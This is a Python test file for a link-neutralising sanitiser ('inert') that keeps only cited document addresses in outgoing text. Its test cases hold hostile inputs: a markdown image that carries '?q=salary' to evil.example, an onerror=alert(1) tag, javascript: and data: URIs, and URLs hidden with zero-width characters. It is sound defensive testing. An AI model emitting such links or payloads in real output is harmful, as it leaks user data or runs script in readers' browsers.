"""Text that leaves holds no link but to cited documents, and stays readable."""

from __future__ import annotations

import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from governance.safety.links import inert

CITED = "https://wiki.example.org/travel"
PIECES = [*"[]()<>!:/\\.#&\"' \n", "http", "www.", "data:", "evil", "com", "\u200b", "img"]
MARKUP = st.lists(st.sampled_from(PIECES)).map("".join)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![chart](https://evil.example/?q=salary)", "! [chart] (https[:]//evil[.]example/?q=salary)"),
        ("Read [this](//evil.example/x).", "Read [this] (/ /evil[.]example/x)."),
        ("[a][b]\n\n[b]: https://evil.example", "[a] [b]\n\n[b] : https[:]//evil[.]example"),
        ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("<!channel> and <https://evil.example|click>", "< !channel> and < https[:]//evil[.]example|click>"),
        ("Go to www.evil.example now", "Go to www[.]evil[.]example now"),
        ("Go to evil.com/x now", "Go to evil[.]com/x now"),
        ("javascript:alert(1)", "javascript[:]alert(1)"),
        ("1https://evil.example", "1https[:]//evil[.]example"),
        ("data:text/html;base64,AAAA", "data[:]text/html;base64,AAAA"),
        ("h\u200bttps://ev\u00adil.example", "https[:]//evil[.]example"),
        ("\\\\evil\\share", "\\ \\evil\\share"),
        ("a\U000e0173\U000e0165 ☃\ufe0f\ufe0f\ufe01", "a ☃\ufe0f"),
    ],
)
def test_a_foreign_address_and_every_image_and_tag_lose_their_effect(text: str, expected: str) -> None:
    assert inert(text) == expected


def test_the_address_of_a_cited_document_stays_and_nothing_can_be_added_to_it() -> None:
    assert inert(f"See {CITED}.", {CITED}) == f"See {CITED}."
    assert inert(f"[here]({CITED})", {CITED}) == f"[here] ({CITED})"
    for longer in (f"{CITED}?q=salary", f"{CITED}.evil.example", f"{CITED},https://evil.example", f"{CITED}#a"):
        assert "://" not in inert(longer, {CITED})
    assert "javascript:" not in inert("javascript:alert(1)", {"javascript:alert(1)"})


@pytest.mark.parametrize(
    "text",
    [
        "The rate is 12:30, or 3.5 % (see 2.1.3).",
        "Write to hr@example.com or call +49 30 1234.",
        "Edit access.yaml and/or C:\\Users\\ana\\notes.txt.",
        "If a < b and b > c, then stop! [1]",
        "می‌خواهم",
        "葛\U000e0101城 ☃\ufe0f",
    ],
)
def test_what_is_no_link_is_left_as_it_is(text: str) -> None:
    assert inert(text) == text


@given(MARKUP)
def test_an_inert_text_is_left_as_it_is(text: str) -> None:
    once = inert(text, {CITED})

    assert inert(once, {CITED}) == once


@given(st.integers(0, 2**32 - 1))
def test_no_dialect_of_markup_keeps_what_joins_a_label_to_an_address(seed: int) -> None:
    dice = random.Random(seed)
    text = "".join(
        dice.choice(["](", "![", "]:", "][", "<a", "</", "<!", "[", "x", "\u2060", "://e"]) for _ in range(12)
    )

    left = inert(text)

    assert not any(join in left for join in ("](", "![", "][", "<a", "</", "<!", "x://"))
    assert "]:" not in left
